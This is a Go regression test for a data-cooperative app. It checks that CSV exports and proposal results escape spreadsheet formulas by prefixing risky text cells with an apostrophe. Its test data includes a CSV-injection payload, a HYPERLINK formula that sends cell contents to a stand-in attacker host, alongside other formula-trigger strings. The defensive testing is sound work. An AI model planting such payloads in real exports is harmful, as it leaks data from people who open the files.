package api_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"coop/pooling"
	"coop/proposals"
	"coop/ui/uitest"
)

// Break 7 (CSV): a pool's category values are written to the member's
// export and to results.csv as they are, so a value such as
// =HYPERLINK(...) runs as a formula in the spreadsheet that opens the file.
// Now every text cell that starts with =, +, -, @, a tab or a carriage
// return gets a leading apostrophe; numbers coop writes stay numbers,
// negative ones included.
func TestAttack_CSVCellsRunNoFormula(t *testing.T) {
	w := uitest.NewCoop(t)
	ctx := context.Background()
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+33 6 12 34", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"}
	lo, hi := -100.0, 100.0
	if _, err := w.Deps.Pools.CreatePool(ctx, pooling.Pool{ID: "tricky", Title: "Tricky",
		Fields: []pooling.Field{
			{Name: "delta", Type: "number", Min: &lo, Max: &hi},
			{Name: "label", Type: "category", Values: append([]string{"plain"}, formulas...)},
		},
		Documentation: pooling.Documentation{Provenance: "p", CollectionMethod: "c", UpdateFrequency: "u", Format: "f", Pseudonymisation: "k"}}); err != nil {
		t.Fatal(err)
	}
	ada := w.Member(t, "Ada", "ada@coop.test")
	if _, err := w.Deps.Pools.SetConsent(ctx, ada.ID, "tricky", true); err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	for i, f := range formulas {
		rows = append(rows, map[string]any{"delta": strconv.Itoa(-i - 1), "label": f})
	}
	if _, err := w.Deps.Pools.Contribute(ctx, ada.ID, "tricky", rows, ""); err != nil {
		t.Fatal(err)
	}

	// The member's export of the pool.
	export := csvOf(t, w, "/api/v1/me/export/tricky.csv", w.Login(t, "ada@coop.test"))
	if len(export) != len(formulas)+1 {
		t.Fatalf("export has %d lines: %q", len(export), export)
	}
	for i, line := range export[1:] {
		if want := "'" + formulas[i]; line[1] != want {
			t.Errorf("export line %d: label %q, want %q", i+1, line[1], want)
		}
		if want := strconv.Itoa(-i - 1); line[0] != want {
			t.Errorf("export line %d: delta %q, want the number %s", i+1, line[0], want)
		}
	}

	// results.csv of a knowledge proposal grouped by the label.
	r := w.Session(t, "rosalind@coop.test")
	prop, err := w.Deps.Proposals.Create(ctx, r, proposals.Draft{Title: "Labels", Purpose: "Count the labels.", Kind: "knowledge", Pool: "tricky",
		Query:   &pooling.Query{Aggregate: "count", GroupBy: []string{"label"}},
		Privacy: &proposals.Privacy{MinCohort: 5, EpsilonTotal: 1, EpsilonPerQuery: 1}, VotingMinutes: 60, GrantDays: 30})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Deps.Proposals.Vote(ctx, w.Session(t, "ada@coop.test"), prop.ID, "yes"); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Deps.Proposals.RunQuery(ctx, r, prop.ID, nil); err != nil {
		t.Fatal(err)
	}
	results := csvOf(t, w, "/api/v1/proposals/"+prop.ID+"/results.csv", "")
	labels := map[string]bool{}
	eps := slices.Index(results[0], "epsilon_spent")
	for _, line := range results[1:] {
		labels[line[2]] = true
		if epsilon, err := strconv.ParseFloat(line[eps], 64); err != nil || epsilon != 1 {
			t.Errorf("results.csv epsilon_spent %q, want the number 1", line[eps])
		}
	}
	for _, f := range formulas {
		if !labels["'"+f] {
			t.Errorf("results.csv has no group %q (groups %v)", "'"+f, labels)
		}
	}
	if !labels["plain"] {
		t.Errorf("results.csv changed a plain label: %v", labels)
	}
}

// csvOf fetches a CSV answer (with a Bearer token if given) and parses it.
func csvOf(t *testing.T, w *uitest.Coop, path, token string) [][]string {
	t.Helper()
	req := uitest.JSONRequest("GET", path, "")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, body := uitest.Call(t, w.App, req)
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, body)
	}
	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("GET %s: not CSV: %v", path, err)
	}
	return lines
}
